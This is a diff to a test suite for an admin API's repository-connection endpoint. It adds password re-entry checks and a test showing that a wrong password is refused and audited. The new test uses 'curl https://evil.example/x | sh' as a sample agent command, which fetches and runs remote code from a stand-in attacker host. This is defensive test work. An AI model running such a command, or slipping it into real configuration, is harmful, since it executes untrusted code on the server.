@@ -288,7 +288,7 @@ describe('repository connection', () => {
   test('instance owner connects; an Org owner may read but not connect; the token is kept and never returned', async () => {
     const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
     expect((await as(otherOwner, 'GET', path)).body).toEqual({ connection: null })
-    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_1', agent: 'command', agentCommand: 'true', maxFiles: 5 }
+    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_1', agent: 'command', agentCommand: 'true', maxFiles: 5, password: 'root password 1' }
     const refused = await as(otherOwner, 'PUT', path, body)
     expect([refused.status, refused.body.error.code]).toEqual([403, 'forbidden'])
     const ok = await as(owner, 'PUT', path, body)
@@ -306,7 +306,7 @@ describe('repository connection', () => {
 
   test('the stored token follows no new host: host, API URL or git remote changed without it is 400 naming hostToken; the token stays where it was', async () => {
     const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
-    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_2', agent: 'command', agentCommand: 'true' }
+    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_2', agent: 'command', agentCommand: 'true', password: 'root password 1' }
     expect((await as(owner, 'PUT', path, body)).status).toBe(200)
     const stored = async () => (await server.services.connections.load(other.appId))!
     for (const [change, named] of [
@@ -326,6 +326,21 @@ describe('repository connection', () => {
     expect((await stored()).hostToken).toBe('ghp_secret_token_2')
     // A new host with its token: fine.
     expect((await as(owner, 'PUT', path, { ...body, gitUrl: 'https://evil.example/a/b.git', hostToken: 'their-token' })).status).toBe(200)
+    expect((await as(owner, 'DELETE', path)).body.disconnected).toBe(true)
+  })
+
+  test('the agent and verify commands run on this server after the session: connecting asks the password again (a wrong one is audited), and changes nothing without it', async () => {
+    const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
+    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'none', agent: 'command', agentCommand: 'curl https://evil.example/x | sh' }
+    const without = await as(owner, 'PUT', path, body)
+    expect([without.status, without.body.error.code, without.body.error.details.reauthRequired]).toEqual([401, 'invalid_credentials', true])
+    const wrong = await as(owner, 'PUT', path, { ...body, password: 'not the password' })
+    expect([wrong.status, wrong.body.error.code]).toEqual([401, 'invalid_credentials'])
+    expect((await as(owner, 'GET', path)).body).toEqual({ connection: null })
+    const audit = await as(owner, 'GET', `/admin/api/orgs/${other.orgId}/audit`)
+    const failed = audit.body.data.filter((e: { action: string }) => e.action === 'admin.password_reentry_failed')
+    expect(failed.map((e: { data: { purpose: string }; targetId: string }) => [e.data.purpose, e.targetId])).toContainEqual(['repo_connect', other.appId])
+    expect((await as(owner, 'PUT', path, { ...body, agentCommand: 'true', password: 'root password 1' })).status).toBe(200)
     expect((await as(owner, 'DELETE', path)).body.disconnected).toBe(true)
   })
 })
